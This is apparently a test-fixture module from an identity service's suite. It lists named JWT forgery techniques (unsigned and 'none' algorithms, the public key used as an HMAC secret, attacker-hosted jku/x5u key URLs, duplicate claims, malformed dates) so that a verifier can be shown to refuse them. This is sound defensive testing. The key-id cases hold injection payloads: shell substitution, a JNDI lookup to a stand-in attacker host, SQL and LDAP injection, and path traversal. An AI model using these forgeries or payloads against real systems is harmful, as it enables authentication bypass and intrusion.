"""Every way to forge an access token that we know of, by name, and why each is refused (T2).

A workshop holds a genuine issuer and a forger, whichever issuer, tenant and moment they work with: the same cases go
through the verifier, through two libraries used plainly, and through the whole API.
"""

import hmac
import json
from base64 import urlsafe_b64decode
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any, Final

from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey, generate_private_key
from cryptography.hazmat.primitives.hashes import SHA1, SHA256, SHA384, SHA512, HashAlgorithm
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import RSAAlgorithm

from tests.unit.identity.forgery import AUDIENCE, ISSUER, KEY_ID, Absent, Smith, encode

Forge = Callable[["Workshop"], str]


@dataclass(frozen=True)
class Workshop:
    """A genuine issuer and a forger at one moment (seconds since 1970); `jwk` is the genuine public key."""

    good: Smith
    bad: Smith
    jwk: dict[str, Any]
    now_s: int

    @property
    def header(self) -> dict[str, Any]:
        return self.good.header

    @property
    def claims(self) -> dict[str, Any]:
        return self.good.claims

    def sign(self, header: Any = None, payload: Any = None) -> str:
        """Return a token with a good signature over header and payload, bytes or JSON; None is the genuine one."""
        return self.good.sign(_json(header, self.header), _json(payload, self.claims))

    def written(self, **claims: bytes) -> str:
        """Return a token in whose payload some values stand as raw JSON."""
        content = json.dumps({**self.claims, **dict.fromkeys(claims, "\0")}).encode()
        for raw in claims.values():
            content = content.replace(b'"\\u0000"', raw, 1)
        return self.sign(payload=content)


def open_workshop(
    key: RSAPrivateKey, forger: RSAPrivateKey, now_s: int, *, key_id: str = KEY_ID, **claims: Any
) -> Workshop:
    """Return a workshop whose genuine tokens say `claims`, with the usual ones for whatever is not given."""
    header = {"alg": "RS256", "typ": "at+jwt", "kid": key_id}
    genuine = {
        "iss": ISSUER,
        "aud": AUDIENCE,
        "sub": "ada@acme.example",
        "jti": "b2c3",
        "iat": now_s - 60,
        "exp": now_s + 600,
        "tenant": "acme",
        "role": "maintainer",
        **claims,
    }
    public = RSAAlgorithm.to_jwk(key.public_key(), as_dict=True)
    jwk = {"kty": "RSA", "n": public["n"], "e": public["e"], "kid": key_id, "use": "sig", "alg": "RS256"}
    return Workshop(Smith(key, header, genuine), Smith(forger, header, genuine), jwk, now_s)


@dataclass(frozen=True)
class Group:
    """Forgeries of one kind. `because` says why they are refused even where a library would believe them."""

    title: str
    because: str
    cases: dict[str, Forge]


def _json(content: Any, genuine: dict[str, Any]) -> bytes | dict[str, Any]:
    if content is None:
        return genuine
    return content if isinstance(content, bytes | dict) else json.dumps(content).encode()


def _header(**changes: Any) -> Forge:
    return lambda shop: shop.good.with_header(**changes)


def _claims(**changes: Any) -> Forge:
    return lambda shop: shop.good.with_claims(**changes)


def _raw(**changes: bytes) -> Forge:
    return lambda shop: shop.written(**changes)


def _dated(**seconds_from_now: float) -> Forge:
    return lambda shop: shop.good.with_claims(**{name: shop.now_s + s for name, s in seconds_from_now.items()})


def _hmac(secret: Callable[[Workshop], bytes], algorithm: str = "HS256", digest: str = "sha256") -> Forge:
    def forge(shop: Workshop) -> str:
        signing_input = _signing_input(shop, alg=algorithm)
        return f"{signing_input}.{encode(hmac.digest(secret(shop), signing_input.encode(), digest))}"

    return forge


def _signing_input(shop: Workshop, **header: Any) -> str:
    return shop.good.with_header(**header).rpartition(".")[0]


def _unsigned(algorithm: str, signature: bytes = b"") -> Forge:
    return lambda shop: f"{_signing_input(shop, alg=algorithm)}.{encode(signature)}"


def _pem(shop: Workshop) -> bytes:
    return shop.good.key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)


def _pkcs1_pem(shop: Workshop) -> bytes:
    return shop.good.key.public_key().public_bytes(Encoding.PEM, PublicFormat.PKCS1)


def _der(shop: Workshop) -> bytes:
    return shop.good.key.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)


def _signed_otherwise(pad: padding.AsymmetricPadding, digest: HashAlgorithm) -> Forge:
    def forge(shop: Workshop) -> str:
        signing_input = _signing_input(shop)
        return f"{signing_input}.{encode(shop.good.key.sign(signing_input.encode(), pad, digest))}"

    return forge


def _with_signature(change: Callable[[bytes, int], bytes]) -> Forge:
    """Change the bytes of a genuine signature, given the modulus."""

    def forge(shop: Workshop) -> str:
        signing_input, _, signature = shop.good.genuine().rpartition(".")
        modulus = shop.good.key.public_key().public_numbers().n
        return f"{signing_input}.{encode(change(_decoded(signature), modulus))}"

    return forge


def _text(change: Callable[[str], str]) -> Forge:
    """Change the text of a genuine token."""
    return lambda shop: change(shop.good.genuine())


def _payload(change: Callable[[bytes], bytes]) -> Forge:
    """Sign a changed text of the genuine claims."""
    return lambda shop: shop.sign(payload=change(json.dumps(shop.claims).encode()))


def _header_text(change: Callable[[bytes], bytes]) -> Forge:
    """Sign a changed text of the genuine header."""
    return lambda shop: shop.sign(header=change(json.dumps(shop.header).encode()))


def _and(added: bytes) -> Callable[[bytes], bytes]:
    """Add members before the end of an object."""
    return lambda text: text[:-1] + b", " + added + b"}"


def _decoded(segment: str) -> bytes:
    return urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def _swapped_payload(shop: Workshop) -> str:
    header, _, signature = shop.good.genuine().split(".")
    return f"{header}.{encode(json.dumps({**shop.claims, 'role': 'owner'}).encode())}.{signature}"


def _spare_bits(token: str) -> str:
    """Write the same signature with another last digit: 256 bytes leave four spare bits in it."""
    digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return token[:-1] + digits[digits.index(token[-1]) ^ 1]


def _other_curve(shop: Workshop) -> str:
    signing_input = _signing_input(shop, alg="ES256")
    key = ec.generate_private_key(ec.SECP256R1())
    return f"{signing_input}.{encode(key.sign(signing_input.encode(), ec.ECDSA(SHA256()))[:64])}"


def _short_key(shop: Workshop) -> str:
    weak = generate_private_key(public_exponent=65537, key_size=1024)  # noqa: S505 (the point of the case)
    return replace(shop.good, key=weak).genuine()


def _as_json(shop: Workshop) -> str:
    return json.dumps(dict(zip(("protected", "payload", "signature"), shop.good.genuine().split("."), strict=True)))


ALGORITHMS: Final = Group(
    "Algorithms and signatures",
    "only RS256 by a published key counts",
    {
        **{f"algorithm {name!r}": _unsigned(name) for name in ("none", "None", "NONE", "nOnE", " none", "none\0", "")},
        "algorithm none, but signed": _header(alg="none"),
        **{
            f"signed, algorithm {name!r}": _header(alg=name)
            for name in ("HS256", "RS384", "RS512", "PS256", "ES256", "EdDSA", "rs256", "RS256 ", "RSA-OAEP")
        },
        "algorithm list": _header(alg=["RS256"]),
        "algorithm number": _header(alg=256),
        "algorithm true": _header(alg=True),
        "algorithm null": _header(alg=None),
        "algorithm absent": _header(alg=Absent),
        "unsigned, said to be signed": _unsigned("RS256"),
        "zeros for a signature": _unsigned("RS256", bytes(256)),
        "one for a signature": _unsigned("RS256", b"\x01".rjust(256, b"\0")),
        "all ones for a signature": _unsigned("RS256", b"\xff" * 256),
        "one byte for a signature": _unsigned("RS256", b"\0"),
        "zeros for an elliptic signature": _unsigned("ES256", bytes(64)),
        "elliptic signature": _other_curve,
        "public key as a secret": _hmac(_pem),
        "public key as a secret, no line feed": _hmac(lambda shop: _pem(shop).strip()),
        "public key as a secret, PKCS 1": _hmac(_pkcs1_pem),
        "public key as a secret, DER": _hmac(_der),
        "public key as a secret, HS384": _hmac(_pem, "HS384", "sha384"),
        "public key as a secret, HS512": _hmac(_pem, "HS512", "sha512"),
        "public key as a secret, said to be RS256": _hmac(_pem, "RS256"),
        "key set as a secret": _hmac(lambda shop: json.dumps(shop.jwk).encode()),
        "modulus as a secret": _hmac(lambda shop: shop.jwk["n"].encode()),
        "key id as a secret": _hmac(lambda shop: shop.jwk["kid"].encode()),
        "empty secret": _hmac(lambda shop: b""),
        "nul as a secret": _hmac(lambda shop: b"\0"),
        "signed by a stranger": lambda shop: shop.bad.genuine(),
        "signed by a short key": _short_key,
        "PSS, said to be RS256": _signed_otherwise(padding.PSS(padding.MGF1(SHA256()), 32), SHA256()),
        "SHA-1, said to be RS256": _signed_otherwise(padding.PKCS1v15(), SHA1()),  # noqa: S303 (the point of the case)
        "SHA-384, said to be RS256": _signed_otherwise(padding.PKCS1v15(), SHA384()),
        "SHA-512, said to be RS256": _signed_otherwise(padding.PKCS1v15(), SHA512()),
        "signature and the modulus": _with_signature(
            lambda signature, modulus: (int.from_bytes(signature) + modulus).to_bytes(257)
        ),
        "signature with a nul before it": _with_signature(lambda signature, _: b"\0" + signature),
        "signature with a nul behind it": _with_signature(lambda signature, _: signature + b"\0"),
        "signature cut": _with_signature(lambda signature, _: signature[:-1]),
        "signature backwards": _with_signature(lambda signature, _: signature[::-1]),
        "signature bit flipped": _with_signature(lambda signature, _: bytes([signature[0] ^ 1]) + signature[1:]),
        "payload swapped": _swapped_payload,
    },
)

HEADERS: Final = Group(
    "Names in the header",
    "the header says alg, typ and kid, and nothing that could change how the token is read",
    {
        "critical extension": _header(crit=["exp"], exp=4_000_000_000),
        "critical b64": _header(crit=["b64"], b64=True),
        "unencoded payload": _header(crit=["b64"], b64=False),
        "critical, of nothing": _header(crit=[]),
        "critical null": _header(crit=None),
        "critical text": _header(crit="b64"),
        "b64 alone": _header(b64=True),
        "b64 alone, false": _header(b64=False),
        "key sent along": lambda shop: shop.bad.with_header(jwk=_jwk_of(shop.bad)),
        "key sent along, under the genuine id": lambda shop: shop.bad.with_header(
            jwk={**_jwk_of(shop.bad), **_id(shop)}
        ),
        "genuine key sent along": lambda shop: shop.good.with_header(jwk=shop.jwk),
        "key by address": _header(jku="https://attacker.example/keys.json"),
        "key by address, stranger's signature": lambda shop: shop.bad.with_header(jku="https://attacker.example/keys"),
        "key by loopback address": _header(jku="http://127.0.0.1/keys.json"),
        "certificate by address": _header(x5u="https://attacker.example/chain.pem"),
        "certificate chain": _header(x5c=["MIIB"]),
        "certificate chain, stranger's signature": lambda shop: shop.bad.with_header(x5c=["MIIB"]),
        "certificate thumbprint": _header(x5t="AAAA"),
        "certificate thumbprint, SHA-256": _header(**{"x5t#S256": "AAAA"}),
        "compressed": _header(zip="DEF"),
        "nested token": _header(cty="JWT"),
        "claims repeated in the header": _header(iss=ISSUER),
        "unknown name": _header(alg2="none"),
        "encrypted": _header(enc="A256GCM"),
        "prototype": _header(__proto__={"alg": "none"}),
        "empty name": _header(**{"": "x"}),
    },
)

TYPES: Final = Group(
    "Types",
    "an access token says at+jwt (RFC 9068), so that no other token of the issuer passes for one",
    {
        **{
            f"type {name!r}": _header(typ=name)
            for name in ("JWT", "jwt", "application/at+jwt", "AT+JWT", "at+jwt ", "id+jwt", "logout+jwt", "rt+jwt", "")
        },
        "type absent": _header(typ=Absent),
        "type null": _header(typ=None),
        "type list": _header(typ=["at+jwt"]),
    },
)

KEY_IDS: Final = Group(
    "Key ids",
    "a key id is a plain name that the key set knows",
    {
        "key id absent": _header(kid=Absent),
        "key id null": _header(kid=None),
        "key id number": _header(kid=1),
        "key id true": _header(kid=True),
        "key id list": lambda shop: shop.good.with_header(kid=[shop.jwk["kid"]]),
        "key id object": lambda shop: shop.good.with_header(kid={"kid": shop.jwk["kid"]}),
        "key id with a line feed": lambda shop: shop.good.with_header(kid=shop.jwk["kid"] + "\n"),
        "key id with a nul": lambda shop: shop.good.with_header(kid=shop.jwk["kid"] + "\0"),
        "key id with a space": lambda shop: shop.good.with_header(kid=" " + shop.jwk["kid"]),
        "key id in other letters": lambda shop: shop.good.with_header(kid=shop.jwk["kid"].swapcase() + "A"),
        "key id and more": lambda shop: shop.good.with_header(kid=shop.jwk["kid"] + "#2"),
        **{
            f"key id {kid[:40]!r}": _header(kid=kid)
            for kid in (
                "", "0", "key-2", "null", "undefined", "__proto__", "constructor",
                "../../../../dev/null", "/dev/null", "..\\..\\windows\\win.ini", "file:///dev/null",
                "/proc/self/environ",
                "key-1' UNION SELECT 'secret", "' OR '1'='1", "1; DROP TABLE keys", '{"$ne": null}', "*)(uid=*",
                "key-1|/bin/sh", "$(id)", "`id`", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "%2e%2e%2f", "%00",
                "https://attacker.example/key", "jwks#key", "t#acme", "кey-1", "k" * 129, "a" * 4000,
            )
        },
    },
)  # fmt: skip

DATES: Final = Group(
    "Dates",
    "dates are whole seconds, an expired token gets no grace, and none lives longer than an hour",
    {
        "expired this second": _dated(exp=0),
        "expired long ago": _dated(iat=-4000, exp=-1000),
        "expired ten seconds ago": _dated(exp=-10),
        "lives a second too long": _dated(iat=-60, exp=3541),
        "lives for years": _dated(exp=10**9),
        "expires never": _raw(exp=b"9223372036854775807"),
        "expires in milliseconds": _dated(exp=10**12),
        "expires at a number of 5,000 digits": _raw(exp=b"9" * 5000),
        "expires at minus one": _claims(exp=-1),
        "expiry as text": lambda shop: shop.good.with_claims(exp=str(shop.now_s + 600)),
        "expiry as fraction": _dated(exp=600.5),
        "expiry as whole fraction": lambda shop: shop.good.with_claims(exp=float(shop.now_s + 600)),
        "expiry with an exponent": lambda shop: shop.written(exp=b"%de0" % (shop.now_s + 600)),
        "expiry true": _claims(exp=True),
        "expiry list": lambda shop: shop.good.with_claims(exp=[shop.now_s + 600]),
        "expiry object": lambda shop: shop.good.with_claims(exp={"$gt": 0}),
        "expiry as a date": _claims(exp="2099-01-01T00:00:00Z"),
        "expiry infinite": _claims(exp=float("inf")),
        "expiry not a number": _claims(exp=float("nan")),
        "expiry huge": _raw(exp=b"1e400"),
        "born after its end": _dated(iat=20, exp=10),
        "from the future": _dated(iat=120, exp=600),
        "from far in the past, for long": _claims(iat=0),
        "birth as text": lambda shop: shop.good.with_claims(iat=str(shop.now_s - 60)),
        "birth as fraction": _dated(iat=-60.5),
        "birth false": _claims(iat=False),
        "birth list": lambda shop: shop.good.with_claims(iat=[shop.now_s]),
        "birth minus infinity": _claims(iat=float("-inf")),
        "not yet": _dated(nbf=120),
        "not before null": _claims(nbf=None),
        "not before text": lambda shop: shop.good.with_claims(nbf=str(shop.now_s - 60)),
        "not before as fraction": _dated(nbf=-1.5),
        "not before false": _claims(nbf=False),
    },
)

PARTIES: Final = Group(
    "Issuer and audience",
    "issuer and audience are compared letter by letter, and nobody needs a token for more than 16 audiences",
    {
        "other issuer": _claims(iss="https://attacker.example"),
        "issuer with a slash": lambda shop: shop.good.with_claims(iss=shop.claims["iss"] + "/"),
        "issuer with a space": lambda shop: shop.good.with_claims(iss=shop.claims["iss"] + " "),
        "issuer in capitals": lambda shop: shop.good.with_claims(iss=shop.claims["iss"].upper()),
        "issuer part": lambda shop: shop.good.with_claims(iss=shop.claims["iss"][:-1]),
        "issuer list": lambda shop: shop.good.with_claims(iss=[shop.claims["iss"]]),
        "issuer object": lambda shop: shop.good.with_claims(iss={shop.claims["iss"]: True}),
        "issuer empty": _claims(iss=""),
        "other audience": _claims(aud="tessera-admin"),
        "audience part": _claims(aud="tess"),
        "audience in capitals": _claims(aud="TESSERA"),
        "audience with a space": _claims(aud="tessera "),
        "audience empty": _claims(aud=""),
        "audience list empty": _claims(aud=[]),
        "audience lists of others": _claims(aud=["a", "b"]),
        "audience list in a list": _claims(aud=[["tessera"]]),
        "audience object": _claims(aud={"tessera": True}),
        "audience true": _claims(aud=True),
        "audience list with a number": _claims(aud=["tessera", 1]),
        "audience list without end": _claims(aud=["tessera"] * 17),
    },
)

SUBJECTS: Final = Group(
    "Tenant, user, role, session and token id",
    "they become parts of keys, and a role is one of ours: nothing that is not exactly such a name passes",
    {
        **{f"{name} absent": _claims(**{name: Absent}) for name in
           ("iss", "aud", "sub", "jti", "iat", "exp", "tenant", "role")},
        **{f"{name} null": _claims(**{name: None}) for name in
           ("iss", "aud", "sub", "jti", "iat", "exp", "tenant", "role")},
        **{f"tenant {tenant[:20]!r}": _claims(tenant=tenant) for tenant in
           ("", "Acme", "acme#kb", "acme/kb", "..", "*", "acme\n", "acme\0", " acme", "-acme", "аcme", "a" * 64)},
        "tenant list": _claims(tenant=["acme"]),
        "tenant number": _claims(tenant=7),
        "tenant object": _claims(tenant={"acme": True}),
        **{f"user {user[:20]!r}": _claims(sub=user) for user in
           ("", "ada#1", "ada lovelace", "ada\n", "ada\0", "#", "ada/../root", "a" * 129)},
        "user with half a character": _claims(sub="ada\ud800"),
        "user number": _claims(sub=7),
        "user list": _claims(sub=["ada"]),
        **{f"role {role!r}": _claims(role=role) for role in ("", "OWNER", "root", "owner ", "owner,viewer", "*")},
        "role list": _claims(role=["owner"]),
        "role object": _claims(role={"owner": True}),
        "role true": _claims(role=True),
        **{f"session {session[:20]!r}": _claims(sid=session) for session in
           ("", "ses_", "ses_#", "ses_" + "0" * 25, "ses_" + "0" * 27, "key_" + "0" * 26, "ses_" + "U" * 26)},
        "session null": _claims(sid=None),
        "session number": _claims(sid=5),
        "session list": _claims(sid=["ses_" + "0" * 26]),
        "token id empty": _claims(jti=""),
        "token id number": _claims(jti=5),
        "token id list": _claims(jti=["b2c3"]),
        "token id with a space": _claims(jti="b2 c3"),
        "token id too long": _claims(jti="j" * 256),
    },
)  # fmt: skip

READINGS: Final = Group(
    "Two readings of one token",
    "equal names, JSON that parsers read in different ways, and whatever stands behind the object are refused",
    {
        **{f"claims twice {name}": _payload(_and(f'"{name}": "globex"'.encode())) for name in
           ("iss", "aud", "sub", "jti", "tenant", "role")},
        "claims twice the genuine tenant": lambda shop: shop.sign(
            payload=_and(f'"tenant": "{shop.claims["tenant"]}"'.encode())(json.dumps(shop.claims).encode())
        ),
        "claims twice the role, escaped": _payload(_and(rb'"\u0072ole": "owner"')),
        "claims twice the expiry": _payload(_and(b'"exp": 4000000000')),
        "equal names inside a claim": _payload(_and(b'"act": {"sub": "a", "sub": "b"}')),
        "equal unknown names": _payload(_and(b'"x": 1, "x": 2')),
        "header twice the algorithm": _header_text(_and(b'"alg": "none"')),
        "header twice the genuine algorithm": _header_text(_and(b'"alg": "RS256"')),
        "header twice the key id": lambda shop: shop.sign(
            header=_and(f'"kid": "{shop.jwk["kid"]}"'.encode())(json.dumps(shop.header).encode())
        ),
        "header twice the type": _header_text(_and(b'"typ": "at+jwt"')),
        "payload array": lambda shop: shop.sign(payload=[shop.claims]),
        "payload empty array": lambda shop: shop.sign(payload=b"[]"),
        "payload text": lambda shop: shop.sign(payload=b'"acme"'),
        "payload number": lambda shop: shop.sign(payload=b"1"),
        "payload null": lambda shop: shop.sign(payload=b"null"),
        "payload empty object": lambda shop: shop.sign(payload=b"{}"),
        "payload empty": lambda shop: shop.sign(payload=b""),
        "payload not JSON": lambda shop: shop.sign(payload=b"tenant=acme"),
        "payload written twice": lambda shop: shop.sign(payload=json.dumps(json.dumps(shop.claims)).encode()),
        "payload with more behind it": _payload(lambda text: text + b"{}"),
        "payload twice": _payload(lambda text: text + text),
        "payload with a letter behind it": _payload(lambda text: text + b"x"),
        "payload with a nul behind it": _payload(lambda text: text + b"\0"),
        "payload with a byte order mark": _payload(lambda text: b"\xef\xbb\xbf" + text),
        "payload in UTF-16": _payload(lambda text: text.decode().encode("utf-16")),
        "payload in UTF-32": _payload(lambda text: text.decode().encode("utf-32-be")),
        "payload with bad UTF-8": _payload(_and(b'"x": "\xff"')),
        "payload with a comment": _payload(lambda text: text + b"/* */"),
        "payload with a comma too many": _payload(lambda text: text[:-1] + b",}"),
        "payload in single quotes": _payload(lambda text: text.replace(b'"', b"'")),
        "payload with NaN": _claims(weight=float("nan")),
        "payload too deep": _payload(_and(b'"deep": ' + b"[" * 2000 + b"]" * 2000)),
        "header array": lambda shop: shop.sign(header=[shop.header]),
        "header empty": lambda shop: shop.sign(header=b"{}"),
        "header text": lambda shop: shop.sign(header=b'"RS256"'),
        "header with more behind it": _header_text(lambda text: text + b" x"),
        "header with a byte order mark": _header_text(lambda text: b"\xef\xbb\xbf" + text),
        "header with a nul behind it": _header_text(lambda text: text + b"\0"),
    },
)  # fmt: skip

FORMS: Final = Group(
    "The form of a token",
    "a token is three canonical base64url segments of 8 KB at most: one content has one spelling",
    {
        "too large": _claims(padding="x" * 8192),
        "far too large": _claims(padding="x" * 100_000),
        "spare bits used": _text(_spare_bits),
        "padded": _text(lambda token: token + "=="),
        "fourth segment": _text(lambda token: token + ".e30"),
        "trailing dot": _text(lambda token: token + "."),
        "leading dot": _text(lambda token: "." + token),
        "trailing line feed": _text(lambda token: token + "\n"),
        "trailing nul": _text(lambda token: token + "\0"),
        "leading line feed": _text(lambda token: "\n" + token),
        "nul inside": _text(lambda token: token.replace(".", ".\0", 1)),
        "space inside": _text(lambda token: token.replace(".", " .", 1)),
        "line feed in a segment": _text(lambda token: token.replace(".", "\n.", 1)),
        "two tokens": _text(lambda token: f"{token},{token}"),
        "with its scheme": _text(lambda token: f"Bearer {token}"),
        "in quotes": _text(lambda token: f'"{token}"'),
        "not ASCII": _text(lambda token: token + "é"),
        "full-width dots": _text(lambda token: token.replace(".", "．")),
        "letters swapped": _text(str.swapcase),
        "header only": _text(lambda token: token.partition(".")[0]),
        "header and payload": _text(lambda token: token.rpartition(".")[0]),
        "payload detached": _text(lambda token: "..".join(token.split(".")[::2])),
        "dots": _text(lambda token: ".."),
        "one segment": _text(lambda token: "e30"),
        "standard base64": lambda shop: shop.good.with_claims(x="??>>??>>~~").replace("_", "/").replace("-", "+"),
        "percent encoded": _text(lambda token: token.replace(".", "%2E")),
        "encrypted token": _text(
            lambda token: ".".join([encode(b'{"alg":"RSA-OAEP","enc":"A256GCM"}')] + ["AAAA"] * 4)
        ),
        "JSON serialisation": _as_json,
    },
)

GROUPS: Final = (ALGORITHMS, HEADERS, TYPES, KEY_IDS, DATES, PARTIES, SUBJECTS, READINGS, FORMS)
FORGERIES: Final[dict[str, Forge]] = {name: forge for group in GROUPS for name, forge in group.cases.items()}


def _jwk_of(smith: Smith) -> dict[str, Any]:
    public: dict[str, Any] = RSAAlgorithm.to_jwk(smith.key.public_key(), as_dict=True)
    return {"kty": "RSA", "n": public["n"], "e": public["e"]}


def _id(shop: Workshop) -> dict[str, Any]:
    return {"kid": shop.jwk["kid"], "use": "sig", "alg": "RS256"}
